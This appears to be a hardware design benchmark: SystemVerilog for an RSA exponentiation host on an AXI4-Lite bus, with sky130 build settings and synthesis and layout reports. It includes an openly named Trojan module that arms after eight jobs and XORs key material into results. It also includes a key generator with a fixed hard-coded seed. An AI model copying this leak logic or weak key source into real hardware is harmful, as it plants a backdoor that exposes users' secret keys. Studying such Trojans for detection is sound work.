[src/hw/axil_pkg.sv]
// AXI4-Lite channel bundles and register map of the RSA host
// Shared by the register front end, the top level and the testbench

package axil_pkg;

    // Master-driven side of the bus
    typedef struct packed {
        logic [3:0]  awaddr;
        logic        awvalid;
        logic [31:0] wdata;
        logic [3:0]  wstrb;
        logic        wvalid;
        logic        bready;
        logic [3:0]  araddr;
        logic        arvalid;
        logic        rready;
    } axil_req_t;

    // Slave-driven side of the bus
    typedef struct packed {
        logic        awready;
        logic        wready;
        logic [1:0]  bresp;
        logic        bvalid;
        logic        arready;
        logic [31:0] rdata;
        logic [1:0]  rresp;
        logic        rvalid;
    } axil_rsp_t;

    localparam logic [1:0] RESP_OKAY = 2'b00;

    // Register offsets
    localparam logic [3:0] REG_OPERAND = 4'h0;
    localparam logic [3:0] REG_CONTROL = 4'h4;
    localparam logic [3:0] REG_STATUS  = 4'h8;
    localparam logic [3:0] REG_RESULT  = 4'hC;

    // Field positions inside the registers
    localparam int OPERAND_MODULUS_LSB = 16;
    localparam int CONTROL_START_BIT   = 8;

endpackage

[src/hw/rsa_pkg.sv]
// Job and result types of the modular exponentiation datapath
// The widths here are the defaults of the module parameters

package rsa_pkg;

    // Default datapath widths
    localparam int MODULUS_WIDTH  = 16;
    localparam int EXPONENT_WIDTH = 4;

    // Key material and leak word
    typedef logic [63:0] key_word_t;

    // One exponentiation request
    typedef struct packed {
        logic [MODULUS_WIDTH-1:0]  message;
        logic [MODULUS_WIDTH-1:0]  modulus;
        logic [EXPONENT_WIDTH-1:0] exponent;
    } rsa_job_t;

    // Result with its one-cycle done flag
    typedef struct packed {
        logic [MODULUS_WIDTH-1:0] value;
        logic                     done;
    } rsa_result_t;

endpackage

[src/hw/rsa_host_ctrl.sv]
`timescale 1ns/10ps
// AXI4-Lite slave of the RSA host: register file, status and job sequencing
// A start write becomes a single job_start pulse, refused while a job runs

module rsa_host_ctrl #(
    parameter int MODULUS_WIDTH  = rsa_pkg::MODULUS_WIDTH,
    parameter int EXPONENT_WIDTH = rsa_pkg::EXPONENT_WIDTH
) (
    input  logic                 clk,
    input  logic                 rst,
    input  axil_pkg::axil_req_t  axil_req,
    output axil_pkg::axil_rsp_t  axil_rsp,
    output rsa_pkg::rsa_job_t    job,
    output logic                 job_start,
    input  logic                 busy,
    input  rsa_pkg::rsa_result_t result
);
    import axil_pkg::*;

    logic [31:0]               operand_q;
    logic [EXPONENT_WIDTH-1:0] exponent_q;
    logic                      done_q;
    logic [MODULUS_WIDTH-1:0]  result_q;
    logic                      bvalid_q;
    logic                      rvalid_q;
    logic [31:0]               rdata_q;
    logic                      wr_hs;
    logic                      rd_hs;
    logic                      start_req;
    logic                      busy_any;
    logic [31:0]               rd_word;

    // Accept a write only with both address and data present
    assign wr_hs = axil_req.awvalid && axil_req.wvalid && !bvalid_q;
    assign rd_hs = axil_req.arvalid && !rvalid_q;

    // Pending pulse counts as busy so a back-to-back start is dropped
    assign busy_any = busy || job_start;

    assign start_req = wr_hs && (axil_req.awaddr == REG_CONTROL)
                       && axil_req.wstrb[1] && axil_req.wdata[CONTROL_START_BIT];

    // Register file writes, byte lanes per wstrb
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            operand_q  <= '0;
            exponent_q <= '0;
        end else if (wr_hs) begin
            case (axil_req.awaddr)
                REG_OPERAND: begin
                    for (int i = 0; i < 4; i++) begin
                        if (axil_req.wstrb[i]) begin
                            operand_q[8*i +: 8] <= axil_req.wdata[8*i +: 8];
                        end
                    end
                end
                REG_CONTROL: begin
                    if (axil_req.wstrb[0]) begin
                        exponent_q <= axil_req.wdata[EXPONENT_WIDTH-1:0];
                    end
                end
                // STATUS and RESULT are read only
                default: ;
            endcase
        end
    end

    // Start pulse, sticky done and result capture
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            job_start <= 1'b0;
            done_q    <= 1'b0;
            result_q  <= '0;
        end else begin
            job_start <= start_req && !busy_any;
            if (job_start) begin
                done_q <= 1'b0;
            end else if (result.done) begin
                done_q <= 1'b1;
            end
            if (result.done) begin
                result_q <= result.value;
            end
        end
    end

    // Response channels, each held until the master takes it
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            bvalid_q <= 1'b0;
            rvalid_q <= 1'b0;
        end else begin
            if (wr_hs) begin
                bvalid_q <= 1'b1;
            end else if (axil_req.bready) begin
                bvalid_q <= 1'b0;
            end
            if (rd_hs) begin
                rvalid_q <= 1'b1;
            end else if (axil_req.rready) begin
                rvalid_q <= 1'b0;
            end
        end
    end

    // Read decode
    always_comb begin
        rd_word = '0;
        case (axil_req.araddr)
            REG_OPERAND: rd_word = operand_q;
            REG_CONTROL: rd_word[EXPONENT_WIDTH-1:0] = exponent_q;
            REG_STATUS:  rd_word[1:0] = {done_q, busy_any};
            REG_RESULT:  rd_word[MODULUS_WIDTH-1:0] = result_q;
            default: ;
        endcase
    end

    always_ff @(posedge clk) begin
        if (rd_hs) begin
            rdata_q <= rd_word;
        end
    end

    always_comb begin
        axil_rsp.awready = wr_hs;
        axil_rsp.wready  = wr_hs;
        axil_rsp.bresp   = RESP_OKAY;
        axil_rsp.bvalid  = bvalid_q;
        axil_rsp.arready = rd_hs;
        axil_rsp.rdata   = rdata_q;
        axil_rsp.rresp   = RESP_OKAY;
        axil_rsp.rvalid  = rvalid_q;
    end

    // Job fields straight from the operand and control registers
    assign job.message  = operand_q[MODULUS_WIDTH-1:0];
    assign job.modulus  = operand_q[OPERAND_MODULUS_LSB +: MODULUS_WIDTH];
    assign job.exponent = exponent_q;

endmodule

[src/hw/modexp_unit.sv]
`timescale 1ns/10ps
// Iterative modular exponentiation, one modular multiply per exponent unit
// The leak word is XORed into the result in the finish cycle

module modexp_unit #(
    parameter int MODULUS_WIDTH  = rsa_pkg::MODULUS_WIDTH,
    parameter int EXPONENT_WIDTH = rsa_pkg::EXPONENT_WIDTH
) (
    input  logic                 clk,
    input  logic                 rst,
    input  rsa_pkg::rsa_job_t    job,
    input  logic                 job_start,
    input  rsa_pkg::key_word_t   leak,
    output logic                 busy,
    output rsa_pkg::rsa_result_t result
);

    logic [MODULUS_WIDTH-1:0]   acc_q;
    logic [MODULUS_WIDTH-1:0]   base_q;
    logic [MODULUS_WIDTH-1:0]   modulus_q;
    logic [EXPONENT_WIDTH-1:0]  count_q;
    logic                       active_q;
    logic                       done_q;
    logic [MODULUS_WIDTH-1:0]   value_q;
    logic [2*MODULUS_WIDTH-1:0] product;
    logic [MODULUS_WIDTH-1:0]   reduced;
    logic                       load;
    logic                       finish;

    assign load    = job_start && !active_q;
    assign finish  = active_q && (count_q == '0);
    assign product = acc_q * base_q;
    assign reduced = MODULUS_WIDTH'(product % modulus_q);

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            active_q <= 1'b0;
            count_q  <= '0;
            done_q   <= 1'b0;
        end else begin
            done_q <= finish;
            if (load) begin
                active_q <= 1'b1;
                count_q  <= job.exponent;
            end else if (finish) begin
                active_q <= 1'b0;
            end else if (active_q) begin
                count_q <= count_q - 1'b1;
            end
        end
    end

    // Datapath, accumulator starts at 1 so exponent 0 yields 1
    always_ff @(posedge clk) begin
        if (load) begin
            acc_q     <= MODULUS_WIDTH'(1);
            base_q    <= job.message;
            modulus_q <= job.modulus;
        end else if (active_q && !finish) begin
            acc_q <= reduced;
        end
        if (finish) begin
            value_q <= acc_q ^ leak[MODULUS_WIDTH-1:0];
        end
    end

    assign busy         = active_q;
    assign result.value = value_q;
    assign result.done  = done_q;

endmodule

[src/hw/key_material_gen.sv]
`timescale 1ns/10ps
// Key material source: a 128-bit feedback shift register stepped per job start
// Key is the modulus mixed into the low half of the new register state

module key_material_gen #(
    parameter int           MODULUS_WIDTH = rsa_pkg::MODULUS_WIDTH,
    parameter logic [127:0] PRIME_SEED    = 128'h123456789ABCDEF0FEDCBA9876543210
) (
    input  logic                     clk,
    input  logic                     rst,
    input  logic                     job_start,
    input  logic [MODULUS_WIDTH-1:0] modulus,
    output rsa_pkg::key_word_t       key
);
    import rsa_pkg::*;

    logic [127:0] state_q;
    logic [127:0] state_next;
    logic         feedback;
    key_word_t    modulus_ext;
    key_word_t    key_q;

    // Taps at the top bit of each 32-bit word
    assign feedback   = state_q[127] ^ state_q[95] ^ state_q[63] ^ state_q[31];
    assign state_next = {state_q[126:0], feedback};

    assign modulus_ext = {{(64-MODULUS_WIDTH){1'b0}}, modulus};

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state_q <= PRIME_SEED;
            key_q   <= '0;
        end else if (job_start) begin
            state_q <= state_next;
            key_q   <= modulus_ext ^ state_next[63:0];
        end
    end

    // Held for the whole job
    assign key = key_q;

endmodule

[src/hw/trojan_leak.sv]
`timescale 1ns/10ps
// Dormant leak block: counts completed jobs and arms at TRIGGER_COUNT
// Once armed the key material appears on the leak word

module trojan_leak #(
    parameter int TRIGGER_COUNT = 8
) (
    input  logic               clk,
    input  logic               rst,
    input  logic               done,
    input  rsa_pkg::key_word_t key,
    output rsa_pkg::key_word_t leak
);

    // Wide enough to hold TRIGGER_COUNT, never zero bits
    localparam int CNT_W = $clog2(TRIGGER_COUNT + 2);

    logic [CNT_W-1:0] count_q;
    logic             armed;

    assign armed = (count_q == CNT_W'(TRIGGER_COUNT));

    // Saturates once armed
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            count_q <= '0;
        end else if (done && !armed) begin
            count_q <= count_q + 1'b1;
        end
    end

    assign leak = armed ? key : '0;

endmodule

[src/hw/rsa_host_top.sv]
`timescale 1ns/10ps
// RSA host top level with its AXI4-Lite port
// Sets the datapath widths, seed and trigger count for all submodules

module rsa_host_top #(
    parameter int           MODULUS_WIDTH  = rsa_pkg::MODULUS_WIDTH,
    parameter int           EXPONENT_WIDTH = rsa_pkg::EXPONENT_WIDTH,
    parameter logic [127:0] PRIME_SEED     = 128'h123456789ABCDEF0FEDCBA9876543210,
    parameter int           TRIGGER_COUNT  = 8
) (
    input  logic                clk,
    input  logic                rst,
    input  axil_pkg::axil_req_t axil_req,
    output axil_pkg::axil_rsp_t axil_rsp
);
    import rsa_pkg::*;

    rsa_job_t    job;
    logic        job_start;
    logic        busy;
    rsa_result_t result;
    key_word_t   key;
    key_word_t   leak;

    rsa_host_ctrl #(
        .MODULUS_WIDTH (MODULUS_WIDTH),
        .EXPONENT_WIDTH(EXPONENT_WIDTH)
    ) u_ctrl (
        .clk      (clk),
        .rst      (rst),
        .axil_req (axil_req),
        .axil_rsp (axil_rsp),
        .job      (job),
        .job_start(job_start),
        .busy     (busy),
        .result   (result)
    );

    modexp_unit #(
        .MODULUS_WIDTH (MODULUS_WIDTH),
        .EXPONENT_WIDTH(EXPONENT_WIDTH)
    ) u_modexp (
        .clk      (clk),
        .rst      (rst),
        .job      (job),
        .job_start(job_start),
        .leak     (leak),
        .busy     (busy),
        .result   (result)
    );

    key_material_gen #(
        .MODULUS_WIDTH(MODULUS_WIDTH),
        .PRIME_SEED   (PRIME_SEED)
    ) u_keygen (
        .clk      (clk),
        .rst      (rst),
        .job_start(job_start),
        .modulus  (job.modulus),
        .key      (key)
    );

    // Watches completions through the done flag
    trojan_leak #(
        .TRIGGER_COUNT(TRIGGER_COUNT)
    ) u_leak (
        .clk (clk),
        .rst (rst),
        .done(result.done),
        .key (key),
        .leak(leak)
    );

endmodule

[config.mk]
export PLATFORM = sky130hd
export DESIGN_NAME = rsa_host_top
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/hw/axil_pkg.sv /design/src/hw/rsa_pkg.sv /design/src/hw/rsa_host_ctrl.sv /design/src/hw/modexp_unit.sv /design/src/hw/key_material_gen.sv /design/src/hw/trojan_leak.sv /design/src/hw/rsa_host_top.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 2
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CAP_MARGIN = 20
export CORE_MARGIN = 2
export CORE_UTILIZATION = 55
export DETAILED_ROUTE_END_ITERATION = 10
export GPL_TIMING_DRIVEN = 1
export PLACE_DENSITY = 0.71
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
[constraint.sdc]
create_clock -name clk -period 274.7 [get_ports clk]
set_input_delay 13.735 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 13.735 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
# Word-level counts from Yosys, hierarchy flattened
# Cells that the tools add are included.
[classes]
bitwise_logic = 5
n_eq_ne = 6
n_mux = 15
addsub = 2
n_div = 1
n_reduce_logical = 32
n_mul = 1
[ops]
columns = ["operator", "n"]
rows = [
  ["32-bit by 16-bit remainder unit with 32-bit output", 1],
  ["16-bit by 16-bit multiplier with 32-bit output", 1],
  ["16-bit bitwise XOR", 2],
  ["12-bit case mux with 2 select lines", 1],
  ["16-bit two-way mux", 1],
  ["3-bit AND reduction", 5],
  ["4-bit equality test (second input constant)", 3],
  ["4-bit logical NOT", 3],
  ["4-bit two-way mux", 3],
  ["1-bit logical AND", 11],
  ["2-bit nonzero test", 5],
  ["4-bit by 3-bit equality test with 1-bit output (second input constant)", 2],
  ["1-bit two-way mux", 8],
  ["2-bit case mux with 4 select lines", 1],
  ["1-bit logical NOT", 6],
  ["2-bit case mux with 3 select lines", 1],
  ["4-bit by 1-bit adder with 4-bit output (second input constant)", 1],
  ["4-bit by 1-bit subtractor with 4-bit output (second input constant)", 1],
  ["1-bit bitwise XOR", 3],
  ["2-bit by 1-bit inequality test with 1-bit output (second input constant)", 1],
  ["2-bit AND reduction", 1],
  ["1-bit logical OR", 1],
]
[word_totals]
regBits = 306
out_inout_bits = 41
inputBits = 51

# Logic depth before layout (Yosys ltp)
[logic_depth]
ltp_word = 6
ltp_mapped = 512
mapped_depth_nobuf = 470

# Modules after synthesis
# The synthesis kept the hierarchy.
[by_module_without_submodules]
columns = ["module", "cells_per_inst", "n_inst", "area_per_inst_um2"]
rows = [
  ["modexp_unit", 4465, 1, 34011.4],
  ["key_material_gen", 509, 1, 6732.7],
  ["rsa_host_ctrl", 219, 1, 3557.2],
  ["trojan_leak", 89, 1, 696.9],
]

# Worst setup path before layout
# OpenSTA, ideal clock, no wires.
[synth_timing]
path_kind = "register to register"
from = "register u_modexp.acc_q[6]"
to = "register u_modexp.acc_q[0]"
setup_ns = 0.129
path_slack_ns = 177.127
stages_incl_launch_ff = 487
t_required_ns = 274.571
t_arrival_ns = 97.444
synth_period_minus_slack_ns = 97.573
path_cell_list = "dfxtp_1 > clkbuf_1 > clkbuf_1 > nand2_1 > fa_1 > inv_1 > fa_1 > fa_1 > fa_1 > fa_1 > inv_1 > fa_1 > inv_1 > ha_1 > clkbuf_1 > and4_1 > nand3_1 > a211o_1 > (+451 left out) > o21ai_0 > fa_1 > a21o_1 > a21oi_1 > o21ai_0 > nor2_1 > o21ai_0 > a21o_1 > a21o_1 > a211o_1 > a21oi_1 > o211ai_1 > or4b_1 > or4_1 > buf_4 > buf_6 > a221oi_2 > o21ai_1"
[synth_between]
elab_chain_cells = 2
[synth_rtl]
columns = ["element", "line", "text"]
rows = [
  ["from (decl)", "modexp_unit.sv:18", "logic [MODULUS_WIDTH-1:0] acc_q;"],
  ["from (signal assigned)", "modexp_unit.sv:60", "acc_q <= reduced;"],
  ["16-bit by 16-bit multiplier with 32-bit output", "modexp_unit.sv:32", "assign product = acc_q * base_q;"],
  ["32-bit by 16-bit remainder unit with 32-bit output", "modexp_unit.sv:33", "assign reduced = MODULUS_WIDTH'(product % modulus_q);"],
]
# Every way passes these cells.
# A chain may end at the register's enable or synchronous reset.

# Worst setup path in the final report
[layout_timing]
from = "register u_modexp.acc_q[5]"
to = "register u_modexp.acc_q[0]"
# The elaborated chain is that of the path after synthesis.

==> summary.md <==
| Metric | Value |
|---|---|
| Worst reg2reg setup slack | 167.01 ns |
| Post-layout instance area | 45800 um2 |
| First-pass GRT wire length | 195 mm |
| Layout Skew | 0.0176 ns |
| H-tree depth | 1 |
| Critical Path AT | 108.13 ns |
| Congestion Overflow GR | 0 |
| Routed WL per cell | 19.6 um |
| Worst Setup Start Kind | flop |
| Worst R2R Path Depth | 455 |
| GPL Wtd Cong | 0.998 |
| Setup violations, final | 0 |
| Reg-to-reg endpoint | u_modexp/acc_q[0] |
| DRT antenna net count | 0 |
| CP max stage cell | or4_1 |
| Clock buffer depth | 3 |
| Most frequent cells in the layout | nand2_1, ha_1, inv_1, nor2_1, a21oi_1 |
| Most common cell after layout, fill and taps aside | nand2_1 |
| Critical path buffer and inverter count | 21 |
| Vias per cell | 6.20 |
| Mapped Cells | 5124 |
| Period minus WS final | 107.69 ns |
| Worst-path fanout max | 29 |
| Worst setup EP type | flop |
| Hold Path Sink | u_modexp/acc_q[8] |
| Rows | 103 |
| Initial DRT Pass Iterations | 6 |
| Width of the die | 285 um |
| Placed wire-length estimate | 94.1 mm |
| Hold path startpoint | u_modexp/acc_q[8] |
| Slew headroom | 29.7% |
| Area Overhead vs Synth | 5.12% |
| Share of post-route cells with drive strength above 1 | 12.3% |
| CP dominant cell by count | o21a_1 |
| CTS tree | yes |
| F_max | 9.29 MHz |
| Area of the die | 81400 um2 |
| Nets | 5857 |
| DR iter-0 viols | 3263 |
| Yosys warning count | 6 |
| Critical Path RT | 275.14 ns |
| Clk sinks | 306 |
| Initial Util | 55.3% |
| Cell Area, Synth | 43500 um2 |
| Post-CTS setup buffer count | 0 |
| Core Region | 78700 um2 |
| Slowest stage delay, CP | 0.95 ns |
| Io pins | 92 |
| CP delay by family, top | compound AO/OA/AOI/OAI gates |
| Crit path kind | flop to flop |
| DRC Markers | 0 |
| Placed instance area | 44800 um2 |
| IO Port Bufs | 87 |
| Vias in the first global route | 36800 |
| Max Cap Viol | 0 |
| Hold Violations, Final | 0 |
| TritonCTS Buffers | 28 |
| Worst skew pair latency | 0.59 ns |
| Initial antenna violation count | 6 |
| Post-Route WL | 121 mm |
| Via count | 38300 |
| Setup TNS | 0 ns |
| RSZ-0062 raised after global routing | false |
| Root Buffer | clkbuf_16 |
| Die H | 285 um |
| Clock transition at path regs | 0.07 ns |
| Min-Delay Path Class | flop to flop |
| Largest net degree at the start of global routing | 103 |
| Hold depth | 2 |
| # hold bufs at CTS | 0 |
| Tightest Pin Transition | 1.05 ns |
| Slew Viols, Final | 0 |
| Syn avg cell area | 8.50 um2 |
| Total Routing Usage GR | 29.4% |
| Outcome | completed |
| Reg-to-Reg Start | u_modexp/acc_q[5] |
| Final period utilization | 39.2% |
| Post-CTS sizing | 0 |
[layer usage]
| layer | GRT usage [%] | vias up | part of all wire (%) |
|---|---|---|---|
| met2 | 48.4 | 1268 | 45 |
| met3 | 4.16 | 264 | 6.9 |
| met4 | 7.80 | 6 | 3.1 |
| met1 | 40.5 | 18300 | 45 |
| met5 | 0 | - | 0.035 |
| li1 | - | 18500 | - |
[tightest hold or removal path, cell delays in order, from the launching register on]
cell,delay (ns)
dfxtp_1,0.31
nand2_1,0.05
o21ai_1,0.05
[worst max path at each step]
stage,start,endpoint,slack (ns),cells after the start
global placement,u_modexp/acc_q[5],u_modexp/acc_q[9],171.40,454
detailed placement,u_modexp/acc_q[5],u_modexp/acc_q[0],168.87,454
finish,u_modexp/acc_q[5],u_modexp/acc_q[0],167.01,455
CTS,u_modexp/acc_q[5],u_modexp/acc_q[0],168.45,451
global route,u_modexp/acc_q[5],u_modexp/acc_q[3],158.41,456
floorplan,u_modexp/acc_q[6],u_modexp/acc_q[0],177.13,486
[area by class of cell]
class | instances | area, um2
antenna | 4 | 10.0
clock buffer | 43 | 817
clock inverter | 9 | 100
fill | 7051 | 33000
inverter | 352 | 1330
multi-input combinational | 4285 | 33300
sequential | 306 | 8060
tap | 1050 | 1310
timing repair buffer | 136 | 813
[metrics by stage]
step           hold slack (ns)  util [%]  std cells  setup WS, ns
6_report                 0.453      58.1       6185        167.01
5_1_grt                  0.467      58.1       6181        158.41
3_5_place_dp             0.445      56.9       6127        168.87
3_3_place_gp             0.438      56.9       6127        171.40
2_1_floorplan            0.425         -       5127        177.13
4_1_cts                  0.454      58.1       6179        168.45
[registers in the layout, summed over array words and instances (netlist names)]
register	cells
u_ctrl/bvalid_q	1
u_ctrl/done_q	1
u_ctrl/exponent_q	4
u_ctrl/job_start	1
u_ctrl/operand_q	32
u_ctrl/rdata_q	32
u_ctrl/result_q	16
u_ctrl/rvalid_q	1
u_keygen/key	16
u_keygen/state_q	128
u_leak/count_q	4
u_modexp/acc_q	16
u_modexp/base_q	16
u_modexp/busy	1
u_modexp/count_q	4
u_modexp/done_q	1
u_modexp/modulus_q	16
u_modexp/value_q	16
Power is not shown: default switching activity piles up to over one toggle a cycle in this logic, so the estimate is an artifact.
